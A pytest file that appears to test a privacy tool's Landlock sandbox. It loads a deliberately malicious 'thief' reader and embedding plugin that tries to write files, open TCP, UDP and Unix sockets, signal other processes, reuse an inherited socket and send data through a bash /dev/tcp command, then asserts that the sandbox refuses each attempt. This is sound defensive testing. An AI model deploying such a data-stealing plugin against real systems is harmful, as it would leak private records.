"""Readers and embeddings that try to carry private records elsewhere, in runs of `pe generate`.

They run in the host, as soon as it reads the metadata of the data set. `test_host` of the package
`isolation` tries more attacks, and each without the part of the wall that stops it.
"""

import json
import os
import socket
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from pe_host.isolation import landlock

pytestmark = pytest.mark.skipif(landlock.version() < 6, reason="needs all parts of the wall")

PLUGIN = """
import ctypes, json, os, signal, socket, subprocess, sys, threading
from dataclasses import replace
from pathlib import Path

from pe_host.embeddings.pixels import Pixels
from pe_host.isolation.allowed import Allowed
from pe_host.isolation.launch import launch
from pe_host.privacy.readers import npz
from pe_sdk import EmbeddingSpec, ReaderSpec, hookimpl

HOME, PORT, SERVICE, BYSTANDER, PUBLIC = {home!r}, {port}, {service!r}, {bystander}, {public}
INHERITED = {inherited}


def worker():
    code = f"import socket; socket.create_connection(('127.0.0.1', {{PORT}}))"
    allowed = Allowed(network=True, write=(HOME,))
    process = launch(
        "code_of_thief", [code], stdin=None, stdout=None, stderr=subprocess.DEVNULL, allowed=allowed
    )
    if process.wait():
        raise PermissionError


def program():
    words = ["bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{{PORT}}"]
    subprocess.run(words, check=True, stderr=subprocess.DEVNULL)


ATTACKS = {{
    "home": lambda: Path(HOME, "records").write_bytes(b"x"),
    "temporary": lambda: Path(f"/tmp/pe-{{BYSTANDER}}").write_bytes(b"x"),
    "tcp": lambda: socket.create_connection(("127.0.0.1", PORT)),
    "udp": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)),
    "unix": lambda: socket.socket(socket.AF_UNIX).connect(SERVICE),
    "signal": lambda: os.kill(BYSTANDER, 0),
    "inherited": lambda: socket.socket(fileno=os.dup(INHERITED)).send(b"x"),
    "times": lambda: os.utime(HOME, (1, 1)),
    "program": program,
    "worker": worker,
}}


def attack(when):
    tried = {{}}
    for name, function in ATTACKS.items():
        try:
            function()
        except (OSError, subprocess.CalledProcessError):
            tried[name] = "refused"
        else:
            tried[name] = "done"
    print("THIEF", json.dumps([when, tried]), file=sys.stderr, flush=True)


class Thief(Pixels):
    seen = 0

    def embed(self, data):
        if "pe_host.privacy.side" in sys.modules:  # in the host
            attack("embed")
            Thief.seen += 1
            if str(Thief.seen) == os.environ.get("THIEF_DIES"):
                os.kill(os.getpid(), signal.SIGKILL)
        return super().embed(data)


def describe(location):
    attack("describe")
    return replace(npz.describe(location), public=PUBLIC)


def read(location, *more):
    attack("read")
    return npz.read(location, *more)


@hookimpl
def pe_embeddings():
    return [EmbeddingSpec("thief", "a thief", lambda output, options: Thief(output))]


@hookimpl
def pe_readers():
    return [ReaderSpec("thief", "a thief", describe, read)]
"""

RUN = """
import sys
from pe_host.isolation import host, wall
if sys.argv.pop(1) == "none":
    host.left_out = frozenset({*wall.LANDLOCK, wall.CALLS, host.DESCRIPTORS})
from pe_host.cli import main
sys.exit(main())
"""

SMALL = ("--plugin", "echo", "--embedding", "thief", "--iterations", "2", "--candidates", "60")
SMALL += ("--samples", "20", "--epsilon", "9", "--workers", "1", "--out", "run")


@pytest.fixture
def thieves(tmp_path, digits, install, pe):
    """thieves(*words, wall="", public=False, **more) -> how the run ends, and the attacks.

    The attacks are pairs of when and attack -> "done" or "refused". With `wall`, the run is an
    interpreter of its own, with that wall, which inherits a socket; else it is a fork of the
    tests' server. Its workers always are interpreters: the thief looks for modules of the host.
    """
    (tmp_path / "home").mkdir()
    inherited, other_end = socket.socketpair()
    with (
        socket.socket() as listener,
        socket.socket(socket.AF_UNIX) as service,
        inherited,
        other_end,
        subprocess.Popen(["sleep", "600"]) as bystander,
    ):
        listener.bind(("127.0.0.1", 0))
        service.bind(str(tmp_path / "service"))
        listener.listen()
        service.listen()

        def run(*words, wall="", public=False, **more):
            code = PLUGIN.format(
                home=str(tmp_path / "home"),
                port=listener.getsockname()[1],
                service=str(tmp_path / "service"),
                bystander=bystander.pid,
                inherited=inherited.fileno() if wall else -1,
                public=public,
            )
            site = tmp_path / "site"
            if not site.exists():
                entries = "[pe.embeddings]\nthief = thief\n[pe.readers]\nthief = thief\n"
                install("pe-thief", entries, modules={"thief": ""}, group="pe.plugins")
                (site / "code_of_thief.py").write_text("import sys; exec(sys.argv[1])\n")
            (site / "thief.py").write_text(code)
            words = ("generate", *SMALL, "--data", "thief:private.npz", *words)
            path = os.pathsep.join(filter(None, (str(site), os.environ.get("PYTHONPATH"))))
            environment = {**pe.environment, "PYTHONPATH": path, **more}
            if wall:
                done = subprocess.run(
                    [sys.executable, "-P", "-c", RUN, wall, *words],
                    cwd=tmp_path,
                    env=environment,
                    capture_output=True,
                    text=True,
                    timeout=300,
                    pass_fds=(inherited.fileno(),),
                )
            else:
                done = replace(pe.fresh, environment=environment)(*words)
            said = [line[6:] for line in done.stderr.splitlines() if line.startswith("THIEF ")]
            return done, [json.loads(line) for line in said]

        yield run
        bystander.kill()
        Path(f"/tmp/pe-{bystander.pid}").unlink(missing_ok=True)


def outcomes(attacks):
    return {outcome for _, tried in attacks for outcome in tried.values()}


def test_reader_and_embedding_carry_nothing_away(thieves, tmp_path):
    done, attacks = thieves(wall="all")
    assert done.returncode == 0, done.stderr
    assert {when for when, _ in attacks} == {"describe", "read", "embed"}
    assert outcomes(attacks) == {"refused"}
    assert not any((tmp_path / "home").iterdir())
    assert (tmp_path / "run/release/README.md").exists()


@pytest.mark.slow
def test_they_do_without_the_wall_around_the_host(thieves, tmp_path):
    done, attacks = thieves(wall="none")
    assert done.returncode == 0, done.stderr
    assert {when for when, _ in attacks} == {"describe", "read", "embed"}
    assert outcomes(attacks) == {"done"}
    assert (tmp_path / "home/records").exists()


@pytest.mark.slow
def test_a_run_that_is_resumed_is_confined_too(thieves):
    killed, attacks = thieves(THIEF_DIES="2")
    assert killed.returncode == -9 and outcomes(attacks) == {"refused"}
    resumed, attacks = thieves("--resume", wall="all")
    assert resumed.returncode == 0, resumed.stderr
    assert {when for when, _ in attacks} == {"describe", "read", "embed"}
    assert outcomes(attacks) == {"refused"}


@pytest.mark.slow
def test_evaluation_on_public_data_is_confined_too(thieves, tmp_path):
    done, attacks = thieves(public=True, wall="all")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "run/internal/evaluation.json").exists()
    assert outcomes(attacks) == {"refused"}


@pytest.mark.parametrize(
    ("words", "code"),
    [(("--set", "nothing=1"), 2), (("--data", "thief:none.npz"), 5), (("--dry-run",), 0)],
)
def test_a_run_that_does_not_start_leaves_no_folder(thieves, tmp_path, words, code):
    """The confined host may not remove it: the janitor does."""
    done, attacks = thieves("--out", "new/run", *words)
    assert done.returncode == code, done.stderr
    assert not (tmp_path / "new").exists()
    assert outcomes(attacks) <= {"refused"}
